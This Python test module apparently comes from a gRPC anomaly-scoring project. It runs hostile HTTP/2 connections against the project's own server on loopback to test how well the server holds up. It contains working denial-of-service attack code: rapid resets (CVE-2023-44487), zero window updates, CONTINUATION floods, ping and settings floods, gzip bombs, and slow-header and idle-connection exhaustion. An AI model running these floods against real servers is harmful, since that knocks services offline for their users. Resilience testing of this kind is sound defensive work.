# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile connections to a server of ours on loopback: `python -m tests.attacks NAME PORT SECONDS [CONNECTIONS]`.

Each attack uses few connections, writes raw frames as quickly as the server reads them, connects again when it is cut
off, and ends by itself. It prints how often it was cut off.
"""

import asyncio
import contextlib
import gzip
import struct
import sys
import time
from collections.abc import AsyncIterator, Callable

from orrery.inference import v1
from tests import raw_http2 as wire
from tests.objects import eros

UNARY = b"/orrery.inference.v1.AnomalyService/ScoreAnomalies"
STREAM = b"/orrery.inference.v1.AnomalyService/StreamScoreAnomalies"
WINDOW_UPDATE, CONTINUATION = 8, 9
CANCEL = 8
# The most streams that a connection of the attacker has open.
AT_ONCE = 200

QUESTION = wire.message(v1.ScoreAnomaliesRequest(objects=[eros()]).SerializeToString())
ROWS = 2_000


def columns(rows: int = ROWS) -> bytes:
    """A question about so many objects."""
    orbits = v1.OrbitColumns()
    for field, value in eros().elements.ListFields():
        # The models do not look at where on its orbit an object is.
        if field.name in orbits.DESCRIPTOR.fields_by_name:
            getattr(orbits, field.name).extend([value] * rows)
    orbits.absolute_magnitude_h.extend([10.4] * rows)
    return v1.ScoreAnomalyColumnsRequest(orbits=orbits).SerializeToString()


class Peer:
    """One hostile connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self._next = 1

    def stream(self) -> int:
        """The id of a new stream."""
        self._next += 2
        return self._next - 2

    async def send(self, data: bytes) -> None:
        """Write, and wait while the server does not read."""
        self.writer.write(data)
        await self.writer.drain()


Attack = Callable[[Peer], AsyncIterator[bytes]]


async def rapid_resets(peer: Peer) -> AsyncIterator[bytes]:
    """Streams that are opened and reset (CVE-2023-44487)."""
    while True:
        ids = [peer.stream() for _ in range(AT_ONCE)]
        yield b"".join(wire.request(stream, UNARY, end=False) + wire.reset(stream, CANCEL) for stream in ids)


async def call_resets(peer: Peer) -> AsyncIterator[bytes]:
    """Whole calls that are reset at once."""
    while True:
        ids = [peer.stream() for _ in range(AT_ONCE)]
        yield b"".join(wire.request(stream, UNARY, body=QUESTION) + wire.reset(stream, CANCEL) for stream in ids)


async def made_to_reset(peer: Peer) -> AsyncIterator[bytes]:
    """Window updates of zero, which make the server reset whole calls (CVE-2025-8671)."""
    zero = struct.pack(">I", 0)
    while True:
        ids = [peer.stream() for _ in range(AT_ONCE)]
        yield b"".join(
            wire.request(stream, UNARY, body=QUESTION) + wire.frame(WINDOW_UPDATE, 0, stream, zero) for stream in ids
        )


async def bombs(peer: Peer) -> AsyncIterator[bytes]:
    """Twenty messages a second, each 16 MB of zeros in 16 KB."""
    packed = wire.message(gzip.compress(bytes(16 * 1024 * 1024 - 1000), mtime=0), compressed=1)
    while True:
        yield wire.request(peer.stream(), UNARY, (b"grpc-encoding", b"gzip"), body=packed)
        await asyncio.sleep(0.05)


async def expired(peer: Peer) -> AsyncIterator[bytes]:
    """Calls with a deadline of a second, whose answers nobody reads."""
    body = wire.message(v1.ScoreAnomaliesRequest(objects=[eros()] * 50, explain=True).SerializeToString())
    while True:
        yield wire.request(peer.stream(), UNARY, (b"grpc-timeout", b"1S"), body=body)
        await asyncio.sleep(0.2)


async def unread_streams(peer: Peer) -> AsyncIterator[bytes]:
    """Streams of columns that are written and never read."""
    body = wire.message(columns())
    ids = [peer.stream() for _ in range(24)]
    yield b"".join(wire.request(stream, STREAM, end=False) for stream in ids)
    # As much as the windows take; the server's credit is not looked at.
    for _ in range(600_000 // len(body)):
        for stream in ids:
            yield b"".join(
                wire.frame(wire.DATA, 0, stream, body[start : start + 16_000]) for start in range(0, len(body), 16_000)
            )
    await asyncio.sleep(3600)


async def tiny_messages(peer: Peer) -> AsyncIterator[bytes]:
    """Empty messages on streams whose answers nobody reads."""
    ids = [peer.stream() for _ in range(24)]
    yield b"".join(wire.request(stream, STREAM, end=False) for stream in ids)
    body = wire.message(b"") * 3_000
    # The window of a stream is 64 KiB at least.
    for _ in range(4):
        for stream in ids:
            yield wire.frame(wire.DATA, 0, stream, body)
    await asyncio.sleep(3600)


async def half_open(peer: Peer) -> AsyncIterator[bytes]:
    """As many calls as the server takes, none of which is ever finished."""
    while True:
        yield b"".join(wire.request(peer.stream(), UNARY, end=False) for _ in range(100))
        await asyncio.sleep(0.1)


async def half_messages(peer: Peer) -> AsyncIterator[bytes]:
    """Calls that announce 15 MB, send some of it, and wait."""
    begun = struct.pack(">BI", 0, 15_000_000) + bytes(60_000)
    while True:
        ids = [peer.stream() for _ in range(20)]
        for stream in ids:
            yield wire.request(stream, UNARY, end=False)
            for start in range(0, len(begun), 16_000):
                yield wire.frame(wire.DATA, 0, stream, begun[start : start + 16_000])
        await asyncio.sleep(0.1)


async def header_flood(peer: Peer) -> AsyncIterator[bytes]:
    """Requests with as many headers as are accepted, to a method that does not exist."""
    much = [(b"x-%d" % number, b"v" * 100) for number in range(100)]
    while True:
        yield b"".join(wire.request(peer.stream(), b"/no/Method", *much, body=b"\0" * 5) for _ in range(20))


async def continuations(peer: Peer) -> AsyncIterator[bytes]:
    """One header block that never ends (CVE-2024-27316)."""
    yield wire.frame(wire.HEADERS, 0, peer.stream(), wire.block((b":method", b"POST")))
    while True:
        yield b"".join(wire.frame(CONTINUATION, 0, 1, wire.block((b"x", b"y"))) for _ in range(50))


async def empty_frames(peer: Peer) -> AsyncIterator[bytes]:
    """Frames of no bytes (CVE-2019-9518)."""
    stream = peer.stream()
    yield wire.request(stream, STREAM, end=False)
    while True:
        yield wire.frame(wire.DATA, 0, stream) * 2_000


async def pings(peer: Peer) -> AsyncIterator[bytes]:
    """Pings as quickly as they go (CVE-2019-9512)."""
    del peer
    while True:
        yield wire.frame(wire.PING, payload=bytes(8)) * 500


async def settings(peer: Peer) -> AsyncIterator[bytes]:
    """Settings as quickly as they go (CVE-2019-9515)."""
    del peer
    while True:
        yield wire.frame(wire.SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * 500


async def slow_headers(peer: Peer) -> AsyncIterator[bytes]:
    """A header block that comes byte by byte."""
    head = wire.request(peer.stream(), UNARY, end=False)
    for byte in head[:-1]:
        yield bytes([byte])
        await asyncio.sleep(0.2)
    await asyncio.sleep(3600)


async def idle(peer: Peer) -> AsyncIterator[bytes]:
    """Nothing at all, after a proper beginning."""
    del peer
    await asyncio.sleep(3600)
    yield b""


async def silent(peer: Peer) -> AsyncIterator[bytes]:
    """Not even a beginning."""
    async for nothing in idle(peer):
        yield nothing


# By name: what one connection does, on how many connections, and whether answers are read.
ATTACKS: dict[str, tuple[Attack, int, bool]] = {
    "rapid_resets": (rapid_resets, 1, True),
    "call_resets": (call_resets, 1, True),
    "made_to_reset": (made_to_reset, 1, True),
    "bombs": (bombs, 1, True),
    "expired": (expired, 4, False),
    "unread_streams": (unread_streams, 1, False),
    "tiny_messages": (tiny_messages, 10, False),
    "half_open": (half_open, 1, True),
    "half_messages": (half_messages, 4, True),
    "header_flood": (header_flood, 1, True),
    "continuations": (continuations, 1, True),
    "empty_frames": (empty_frames, 1, True),
    "pings": (pings, 1, False),
    "settings": (settings, 1, False),
    "slow_headers": (slow_headers, 200, True),
    "idle": (idle, 2_000, True),
    "silent": (silent, 500, True),
}


async def attack(name: str, port: int, seconds: float, connections: int | None = None) -> int:
    """Run an attack for so long; how often one of its connections was cut off."""
    act, usual_connections, reads = ATTACKS[name]
    cut_off = 0
    deadline_s = time.monotonic() + seconds

    async def one() -> None:
        nonlocal cut_off
        while time.monotonic() < deadline_s:
            with contextlib.suppress(OSError, EOFError):
                async with wire.raw(port, greet=name != "silent") as (reader, writer):
                    if name != "silent":
                        # The windows that the server's settings open are open once they are acknowledged.
                        await wire.frames(reader, until=wire.SETTINGS)
                        writer.write(wire.frame(wire.SETTINGS, 1))
                    # Written at once what the socket takes: what it does not take waits here.
                    reading = asyncio.ensure_future(_drain(reader) if reads else _ended(reader))
                    peer = Peer(reader, writer)
                    acting = asyncio.ensure_future(_act(peer, act))
                    done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
                    for task in (reading, acting):
                        task.cancel()
                    await asyncio.gather(reading, acting, return_exceptions=True)
                    if acting in done:
                        # An attack that fails by itself attacks nothing.
                        acting.result()
                    if done:
                        cut_off += 1
                        writer.transport.abort()
            await asyncio.sleep(0.05)

    tasks = [asyncio.ensure_future(one()) for _ in range(connections or usual_connections)]
    await asyncio.wait(tasks, timeout=seconds)
    for task in tasks:
        task.cancel()
    for outcome in await asyncio.gather(*tasks, return_exceptions=True):
        if isinstance(outcome, Exception):
            raise outcome
    return cut_off


async def _act(peer: Peer, act: Attack) -> None:
    with contextlib.suppress(OSError):
        async for data in act(peer):
            await peer.send(data)


async def _drain(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def _ended(reader: asyncio.StreamReader) -> None:
    """Wait for the end without reading: the transport stops reading once its buffer is full."""
    while not reader.at_eof():
        await asyncio.sleep(0.1)


def main() -> None:
    """Run the attack that the command line names."""
    name, port, seconds, *connections = sys.argv[1:]
    print(asyncio.run(attack(name, int(port), float(seconds), *map(int, connections))))


if __name__ == "__main__":
    main()
